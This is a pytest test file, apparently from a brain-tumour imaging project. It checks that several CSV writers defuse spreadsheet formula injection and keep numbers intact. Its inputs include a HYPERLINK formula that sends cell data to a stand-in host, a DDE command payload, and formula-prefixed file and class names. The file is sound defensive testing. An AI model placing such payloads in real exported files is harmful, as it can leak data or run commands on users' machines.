"""No table that is written holds a formula, whatever a file, a class or an error is called; readers undo it exactly."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from braintumor_ext.classes import Classes
from braintumor_ext.data.crosscheck import crosscheck
from braintumor_ext.data.file_properties import COLUMNS, read_items_csv, write_items_csv
from braintumor_ext.inference.prediction_table import PredictionTable
from braintumor_ext.metrics import SliceRecord, read_records, write_records
from braintumor_ext.prediction import Prediction
from braintumor_ext.saliency_metrics.map_summary import ExplainedSlice, ScoredMap, write_slices
from tests.data.folders import grey_slice

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
NAMES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "plain.png", r"a\nb", "sc\udcffan"]
CLASSES = Classes(("=glioma()", "-b+c"))


def records(folder: Path) -> list[Path]:
    told = [
        SliceRecord(name, name, index % 2, (0.25, 0.75), True, 3, 4, 0.5, 0.5, 1.5, flags=(name,))
        for index, name in enumerate(NAMES)
    ]
    path = folder / "per_image.csv"
    write_records(told, path, CLASSES)
    assert list(map(repr, read_records(path, CLASSES))) == list(map(repr, told))
    return [path]


def items(folder: Path) -> list[Path]:
    known = {"width": 5, "height": 7, "mode": "L", "bytes": 9}
    rows = [{**dict.fromkeys(COLUMNS, name), **known} for name in NAMES]
    path = write_items_csv(folder, rows)
    assert set(read_items_csv(folder)) == {folder.resolve() / name for name in NAMES}
    return [path]


def predictions(folder: Path) -> list[Path]:
    table = PredictionTable(folder / "predictions.csv", CLASSES)
    rows = []
    for name in NAMES:
        told = {"class": CLASSES[0], f"p_{CLASSES[0]}": 0.25, f"p_{CLASSES[1]}": 0.75, "area_px": 3, "area_mm2": 1.5}
        files = {"flags": name, "error": name, "mask": name, "overlay": name}
        rows.append({**table.row({"name": name}, Prediction(name)), **told, **files})
    table.write(rows)
    assert [{**row, "file": None} for row in table.read()] == [{**row, "file": None} for row in rows]
    assert len({row["file"] for row in table.read()}) == len(NAMES)
    return [table.path]


def explained(folder: Path) -> list[Path]:
    one = ScoredMap(0.5, 0.5, 0.5, 0.5, 0.5, 0.5, (0.5,), (0.5,))
    path = folder / "per_slice.csv"
    write_slices([ExplainedSlice(name, name, 0, 1, 0.75, 0.1, {name: one}) for name in NAMES], path, CLASSES)
    return [path]


def copies(folder: Path) -> list[Path]:
    (folder / "=slices").mkdir()
    for name in (FORMULA.replace("/", "_"), "@b"):
        Image.fromarray(grey_slice(3)).save(folder / "=slices" / f"{name}.png")
    assert len(crosscheck(Path("=slices"), None, folder).copies) == 1
    return [folder / "copies.csv"]


@pytest.mark.parametrize("write", [records, items, predictions, explained, copies])
def test_no_cell_is_a_formula_and_numbers_stay_numbers(
    write: Callable[[Path], list[Path]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for path in write(tmp_path):
        with path.open(newline="", encoding="utf-8") as file:
            header, *rows = csv.reader(file)
        cells = [cell for row in (header, *rows) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
        assert [cell for cell in cells if cell.startswith(("'=", "'@"))]  # there was something to defuse
        numbers = {"0.25", "0.75", "3", "5", "7", "9", "0.5", "1", "1.5", "1.0000"}
        assert numbers & {cell for row in rows for cell in row}
